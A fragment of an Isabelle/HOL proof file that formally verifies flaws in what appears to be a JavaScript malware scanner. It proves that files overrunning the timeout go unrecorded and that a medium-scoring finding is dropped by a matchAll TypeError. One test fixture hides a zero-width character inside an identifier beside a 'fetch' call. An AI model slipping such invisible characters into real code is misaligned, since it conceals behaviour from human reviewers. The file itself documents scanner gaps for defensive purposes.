  "content heavy_js = Some (replicate 200000 0x61)"
  by (simp_all add: heavy_js_def MAX_BYTES_def)

lemma not_binary_replicate: "\<not> isBinaryLikely (replicate n 0x61)"
  by (simp add: isBinaryLikely_def Let_def isBinaryLikely_loop_eq)

lemma heavy_js_rejects: "snd (inspect cfg rt li heavy_js) = Inl matchAll_TypeError"
  using inspect_source [OF heavy_js_name(1) heavy_js_content(1,2) heavy_js_name(2)
      heavy_js_content(3) not_binary_replicate heavy_js_name(3)] .

lemma heavy_timing_values:
  "perFileTimeoutMs short_timeout = 100"
  "await_ms heavy_timing (path heavy_js) = 5"
  "inspection_ms heavy_timing (path heavy_js) = 2005"
  by (simp_all add: short_timeout_def heavy_timing_def inspection_ms_def)

text \<open>
  Claim C9, at the file \<open>heavy_js\<close> with a timeout of 100 ms. The file is read within
  5 ms and its inspection takes 2005 ms, twenty times the timeout. The timer does not
  settle the race first: the worker that awaits the file adds no record to \<open>skipped\<close>,
  adds nothing to \<open>out\<close> (the inspection rejects at line 258 when its turn ends) and
  increments \<open>processed\<close>; and every scan of that one file ends with \<open>processed = 1\<close>
  and with both \<open>skipped\<close> and \<open>out\<close> empty. The file whose inspection exceeded
  \<open>perFileTimeoutMs\<close> is recorded nowhere.
\<close>

theorem C9_overrun_in_last_turn_not_skipped:
  "perFileTimeoutMs short_timeout = 100 \<and>
   inspection_ms heavy_timing (path heavy_js) = 2005 \<and>
   \<not> timer_first heavy_timing (perFileTimeoutMs short_timeout) (path heavy_js) \<and>
   skipped (settle short_timeout rt (timer_first heavy_timing) heavy_js st) = skipped st \<and>
   out (settle short_timeout rt (timer_first heavy_timing) heavy_js st) = out st \<and>
   processed (settle short_timeout rt (timer_first heavy_timing) heavy_js st) = processed st + 1 \<and>
   (\<forall>st'. reachable short_timeout rt (timer_first heavy_timing) [heavy_js] st' \<and> all_finished st'
      \<longrightarrow> processed st' = 1 \<and> skipped st' = [] \<and> out st' = [])"
proof -
  let ?dl = "timer_first heavy_timing"
  have le: "await_ms heavy_timing (path heavy_js) \<le> perFileTimeoutMs short_timeout"
    by (simp add: heavy_timing_values)
  note n = late_timer_no_skip(1) [OF le]
  have 1: "skipped (settle short_timeout rt ?dl heavy_js st) = skipped st \<and>
      out (settle short_timeout rt ?dl heavy_js st) = out st \<and>
      processed (settle short_timeout rt ?dl heavy_js st) = processed st + 1"
    using settle_fault [of ?dl short_timeout heavy_js rt st matchAll_TypeError] n heavy_js_rejects
    by blast
  have 2: "processed st' = 1 \<and> skipped st' = [] \<and> out st' = []"
    if r: "reachable short_timeout rt ?dl [heavy_js] st'" and f: "all_finished st'" for st'
  proof -
    have "expected_skips short_timeout ?dl [heavy_js] = []"
      using n by (simp add: expected_skips_def)
    moreover have "List.map_filter (expected_finding short_timeout rt ?dl) [heavy_js] = []"
      using heavy_js_rejects [of short_timeout rt 0]
      by (simp add: map_filter_simps expected_finding_def inspect_result_def)
    ultimately show ?thesis using scan_final [OF r f] by simp
  qed
  from heavy_timing_values n 1 2 show ?thesis by blast
qed

theorem C9_overrun_in_last_turn_not_skipped_witness:
  "\<exists>st'. reachable short_timeout (example_runtime [] JNull) (timer_first heavy_timing) [heavy_js] st' \<and>
     all_finished st' \<and> processed st' = 1 \<and> skipped st' = [] \<and> out st' = []"
proof -
  let ?rt = "example_runtime [] JNull" and ?dl = "timer_first heavy_timing"
  from can_finish [of short_timeout ?rt ?dl "init_state short_timeout [heavy_js]"]
  obtain st' where "reachable short_timeout ?rt ?dl [heavy_js] st'" "all_finished st'"
    by (auto simp: reachable_def)
  with C9_overrun_in_last_turn_not_skipped [of ?rt "init_state short_timeout [heavy_js]"]
  show ?thesis by blast
qed

subsection \<open>The scores of the findings\<close>














text \<open>
  The file \<open>zero_width_js\<close>. The checks of lines 210-256 find an invisible character
  inside an identifier and a network function in its text, and nothing else; the
  weights of these two signals add up to 55, of class medium. The inspection of the
  file rejects at line 258, so no score is computed and no finding returned.
\<close>

lemma score_55:
  "scoreFinding (parts0\<lparr>invisInIdentifier := True, netFuncs := True,
     multipleSignals := count_signals (parts0\<lparr>invisInIdentifier := True, netFuncs := True\<rparr>)\<rparr>) = 55"
  by (simp add: scoreFinding_def bump_def parts0_def count_signals_def)

lemma zero_width_signals:
  "map_sum id (\<lambda>st. fst (detect_shellDownload zero_width_text
       (detect_dangerous zero_width_text (detect_netFuncs zero_width_text st))))
     (detect_suspicious zero_width_text (snd (detect_invisible 0 zero_width_text (parts0, details0))))
   = Inr (parts0\<lparr>invisInIdentifier := True, netFuncs := True\<rparr>)"
  by code_simp

lemma zero_width_js_gates:
  "\<not> ignoreName (basename (path zero_width_js))"
  "stat_size zero_width_js = Some 20"
  "jsLike (toLowerCase (extname (path zero_width_js))) (path zero_width_js)"
  "content zero_width_js = Some (bytes ''const a'' @ [0xE2, 0x80, 0x8B] @ bytes ''b = fetch;'')"
  "\<not> isBinaryLikely (bytes ''const a'' @ [0xE2, 0x80, 0x8B] @ bytes ''b = fetch;'')"
  "toLowerCase (extname (path zero_width_js)) \<noteq> str ''.json''"
  by code_simp+

lemma zero_width_js_rejects:
  "snd (inspect cfg rt li zero_width_js) = Inl matchAll_TypeError"
proof -
  have "(20::nat) \<le> MAX_BYTES" by (simp add: MAX_BYTES_def)
  from inspect_source [OF zero_width_js_gates(1,2) this zero_width_js_gates(3,4,5,6)]
  show ?thesis .
qed

lemma zero_width_js_dropped:
  "map_sum id (\<lambda>st. fst (detect_shellDownload zero_width_text
       (detect_dangerous zero_width_text (detect_netFuncs zero_width_text st))))
     (detect_suspicious zero_width_text (snd (detect_invisible 0 zero_width_text (parts0, details0))))
   = Inr (parts0\<lparr>invisInIdentifier := True, netFuncs := True\<rparr>) \<and>
   scoreFinding (parts0\<lparr>invisInIdentifier := True, netFuncs := True,
     multipleSignals := count_signals (parts0\<lparr>invisInIdentifier := True, netFuncs := True\<rparr>)\<rparr>) = 55 \<and>
   classify 55 = Medium \<and>
   snd (inspect cfg rt li zero_width_js) = Inl matchAll_TypeError \<and>
   (\<not> dl (perFileTimeoutMs cfg) (path zero_width_js) \<longrightarrow>
      out (settle cfg rt dl zero_width_js st) = out st \<and>
      skipped (settle cfg rt dl zero_width_js st) = skipped st)"
  using settle_fault [of dl cfg zero_width_js rt st matchAll_TypeError]
    zero_width_js_rejects [of cfg rt] zero_width_signals score_55
  by (simp add: classify_def)








end
